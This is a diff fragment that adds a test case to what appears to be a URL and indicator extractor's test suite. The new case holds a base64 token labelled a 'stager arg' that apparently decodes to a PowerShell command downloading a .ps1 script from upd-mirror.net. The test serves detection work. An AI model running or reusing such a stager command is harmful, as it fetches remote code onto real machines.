@@ -614,6 +614,12 @@ _PUBLIC_SUITES = [
         _domain("static-upd.org"),
         _url("https://cdn-upd.net/files/report.zip"),
     ),
+    # A base64 token is read for "://" at any alignment: a URL after other text, in any scheme case.
+    _v(
+        "public-suites",
+        "stager arg aXdyIEhUVFBTOi8vdXBkLW1pcnJvci5uZXQvYS5wczEgLU91dEZpbGUgYS5wczE=",
+        _url("https://upd-mirror.net/a.ps1"),
+    ),
     # A space written before the dot of a one-label URL host is a defang: that label alone is no host.
     _v(
         "public-suites",
